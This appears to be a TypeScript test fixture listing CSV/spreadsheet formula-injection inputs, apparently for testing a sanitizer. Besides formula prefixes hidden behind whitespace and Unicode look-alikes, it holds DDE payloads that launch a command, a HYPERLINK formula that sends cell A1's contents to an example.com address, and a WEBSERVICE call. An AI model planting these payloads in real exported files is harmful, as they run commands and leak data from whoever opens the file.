/** What a text may begin with to become a formula somewhere: each sign alone, behind what programs strip, in wide forms, and as known attacks. */
const beginnings = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  " =",
  "\u00a0=",
  "\u200b=",
  "\ufeff=",
  "＝",
  "＋",
  "－",
  "＠",
];

export const hostileTexts: readonly string[] = [
  ...beginnings.map((sign) => `${sign}1+1`),
  '=HYPERLINK("https://example.com/?"&A1,"Look")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  "=WEBSERVICE(A1)",
  '"=1+1',
  "'=1+1",
  'a"&HYPERLINK("https://example.com","b")&"',
  "a'!A1+1",
  "{company}",
  "a,=1+1",
];

/** Texts as names that differ from each other however they are compared. */
export const numbered = (texts: readonly string[]): string[] => texts.map((text, at) => `${text} ${at + 1}`.trim());
